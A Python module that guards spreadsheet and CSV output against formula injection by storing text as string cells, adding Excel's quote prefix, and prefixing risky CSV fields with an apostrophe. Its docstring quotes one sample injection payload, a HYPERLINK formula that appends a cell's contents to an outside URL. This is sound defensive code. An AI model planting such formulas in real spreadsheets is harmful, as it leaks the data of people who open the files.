"""The one way skpdoc writes spreadsheet cells and CSV rows: text from specs stays text.

Excel and LibreOffice run a cell that starts with ``=`` (and, when typed or
imported from CSV, ``+ - @``) as a formula: a name such as
``=HYPERLINK("http://…?x="&B5,"Rini")`` would leak the sheet or call out.

* Workbook cells (:func:`put`, :func:`append`): a ``str`` is stored as a string
  cell, never a formula or an error value (openpyxl turns ``"=…"`` into a formula
  and ``"#N/A"`` into an error by itself), and one that starts like a formula gets
  Excel's "quote prefix" so editing it keeps it text. What the cell shows is the
  text as written. Numbers stay numbers.
* CSV fields (:func:`csv_text`): a text that starts with ``= + - @`` TAB or CR
  (after any spaces, which some importers trim) gets a leading ``'``, as the
  OWASP CSV-injection guidance advises; spreadsheets hide that quote, so a
  person reads the text as written (a program reading the CSV sees it).

Left alone, because no spreadsheet runs them: a real number (``-5``, ``+62``,
``-1,5``), which a spreadsheet reads as that number, and a lone ``-`` (the
placeholder of an empty rating). Control characters are made visible
(:func:`skpdoc.textsafe.visible`) in both: XML cannot hold most of them, and a
CSV printed on a terminal must not drive it.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence
from typing import TYPE_CHECKING, cast

from skpdoc.textsafe import visible

if TYPE_CHECKING:
    from openpyxl.cell.cell import Cell
    from openpyxl.worksheet.worksheet import Worksheet

#: How a formula can start, in a cell or a CSV field.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(\d+([.,]\d+)*|\d*[.,]\d+)")
#: Characters Excel refuses in a sheet name.
_NOT_IN_TITLE = str.maketrans({c: "-" for c in "[]:*?/\\"})


def looks_like_formula(text: str) -> bool:
    """Whether a spreadsheet could take ``text`` for a formula (a number or a lone "-" cannot)."""
    if text.startswith(("\t", "\r")):
        return True
    core = text.lstrip()  # some importers trim spaces before they look for a formula
    return core.startswith(FORMULA_START) and core != "-" and not _NUMBER.fullmatch(core)


def sheet_title(name: str) -> str:
    """A sheet name Excel opens without "repairing" the file, from any text (openpyxl makes it unique)."""
    # At most 31 characters, none of []:*?/\ nor a control character, no quote at either end,
    # and not "History" (reserved for Excel's change tracking).
    title = visible(name).translate(_NOT_IN_TITLE).strip("'")[:31].strip("'")
    return title + "-" if title.lower() == "history" else title or "-"


def put(cell: Cell, value: object) -> None:
    """Set a workbook cell: text as text (never a formula), numbers as numbers."""
    if not isinstance(value, str):
        cell.value = value  # type: ignore[assignment]  # openpyxl itself refuses a type a cell cannot hold
        return
    text = visible(value)
    cell.value = text
    cell.data_type = "s"  # openpyxl's own guess makes "=…" a formula and "#N/A" an error
    if looks_like_formula(text):
        cell.quotePrefix = True  # Excel shows the text, and keeps it text when someone edits the cell


def append(sheet: Worksheet, values: Iterable[object] = ()) -> int:
    """Add a row below the last one (``()``: a blank row), each value as :func:`put` sets it; returns its number."""
    values = list(values)
    # Made visible before openpyxl sees them: it refuses control characters with an exception.
    sheet.append([visible(value) if isinstance(value, str) else value for value in values])
    # The row append() just wrote; ``max_row`` would scan every cell of the sheet (quadratic over a large sheet).
    row: int = sheet._current_row  # type: ignore[attr-defined]
    for column, value in enumerate(values, 1):
        if isinstance(value, str):
            put(cast("Cell", sheet.cell(row, column)), value)  # a row just added has no merged cells
    return row


def csv_field(value: object) -> object:
    """A CSV field: text made visible and, when it could start a formula, prefixed with ``'``."""
    if not isinstance(value, str):
        return value
    text = visible(value)
    return "'" + text if looks_like_formula(text) else text


def csv_text(rows: Iterable[Sequence[object]]) -> str:
    """CSV (``\\n`` line ends, minimal quoting) of ``rows``, every field through :func:`csv_field`."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    for row in rows:
        writer.writerow([csv_field(value) for value in row])
    return out.getvalue()
